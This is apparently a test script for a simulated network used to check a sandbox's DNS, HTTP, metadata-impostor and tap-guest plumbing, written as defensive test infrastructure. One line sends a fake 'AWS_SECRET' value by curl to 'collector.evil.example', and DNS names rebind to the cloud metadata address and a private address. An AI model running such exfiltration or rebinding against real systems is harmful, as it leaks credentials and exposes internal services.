#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# The world itself: its names resolve, its servers answer the host, and what
# they say they saw is true. A failure here makes every other one worthless.
. "${0%/*}/../lib/world.sh"
world_enter "$0" "$@"
WORLD_FRESH=10000
world_start

dig() { $EG dig 198.51.100.53 "$@"; }
get() { curl -sS -m 5 --cacert $CA "$@"; }

check "the world starts (in $WORLD_MS ms)" test "$WORLD_MS" -gt 0
check "a name resolves" eq "$(dig app.demo.example)" "NOERROR 198.51.100.80"
check "the same over TCP" \
	eq "$(dig app.demo.example A tcp)" "NOERROR 198.51.100.80"
check "a chain of aliases over two zones resolves" \
	has "$(dig alias.demo.example)" '^NOERROR 198.51.100.80$'
check "fresh names have addresses of their own" \
	eq "$(dig f00000.fresh.demo.example) $(dig f09999.fresh.demo.example)" \
	"NOERROR 198.18.1.1 NOERROR 198.18.40.250"
check "names below a wildcard resolve" \
	eq "$(dig any.wild.demo.example)" "NOERROR 198.51.100.81"
check "an unknown name does not" eq "$(dig nothing.demo.example)" "NXDOMAIN"
check "a public name leads to the metadata address" \
	eq "$(dig meta.rebind.example)" "NOERROR 169.254.169.254"
check "a public name leads to a private one" \
	eq "$(dig priv.rebind.example)" "NOERROR 10.3.0.10"

check "HTTPS by name" eq "$(get https://app.demo.example/)" "hello from app:443"
check "HTTP by name" eq "$(get http://app.demo.example/)" "hello from app:80"
check "the metadata impostor answers the host" \
	eq "$(get http://169.254.169.254/latest/)" "hello from metadata:80"
check "the internal API server answers the host" \
	eq "$(get https://k8s.internal.example:6443/)" "hello from internal:6443"
check "a service of the host answers" \
	eq "$(get http://192.0.2.10:8022/)" "hello from hostsvc:8022"
check "an echo service answers" $EG connect 198.51.100.81 7
check "the same over UDP" $EG connect 198.51.100.81 7 udp
check "an address of the bulk prefix accepts" $EG connect 198.18.7.7 8081
check "a port nobody serves is refused" not $EG connect 198.51.100.80 9

check "nothing has reached the collector yet" not served collector
check "the wire says so too" not wire_saw 203.0.113.66
get -d 'AWS_SECRET=hunter2' https://collector.evil.example/ >/dev/null
check "the collector records what it gets" served collector AWS_SECRET=hunter2
check "the wire says so too" wire_saw 203.0.113.66 443
check "the public resolver answers anything with its own address" \
	eq "$($EG dig 203.0.113.8 whatever.test)" "NOERROR 203.0.113.8"
check "and over TCP" \
	eq "$($EG dig 203.0.113.8 whatever.test A tcp)" "NOERROR 203.0.113.8"
check "and records it" served resolver whatever
check "an address without a server is seen on the wire" \
	sh -c "! $EG connect 198.51.100.7 25 && nsenter --net=/run/netns/inet \
		nft -j list table inet wire | $EG wire 198.51.100.7 25"

# The tap guest's frames, against a tap we make ourselves as a lease's would be.
ip netns add slot
ip netns exec slot sh -c 'ip tuntap add tap0 mode tap && ip link set tap0 up &&
	ip addr add 172.16.0.1/30 dev tap0'
echo '{"netns":"/run/netns/slot","guest":{"tap":"tap0","mac":"06:00:ac:10:00:02",
"address":"172.16.0.2/30","gateway":"172.16.0.1"}}' >$W/lease.g
ip netns exec slot $PYTHON "$WORLD_LIB/servers.py" --log $W/slot.jsonl \
	--ready $W/slot.ready slot=http:172.16.0.1:80 &
wait_for 5 test -e $W/slot.ready
check "a guest attaches to a tap" tapguest g
check "and talks through it" \
	eq "$(guest g curl -sS -m 5 http://172.16.0.1/)" "hello from slot:80"
check "its resolver is its gateway" \
	eq "$(guest g cat /etc/resolv.conf)" "nameserver 172.16.0.1"

check "/run and the resolver of the machine are out of sight" \
	eq "$(ls -A -I mount /run | tr '\n' ' ')$(cat /etc/resolv.conf)" \
	"lock netns world nameserver 198.51.100.53"
world_finish
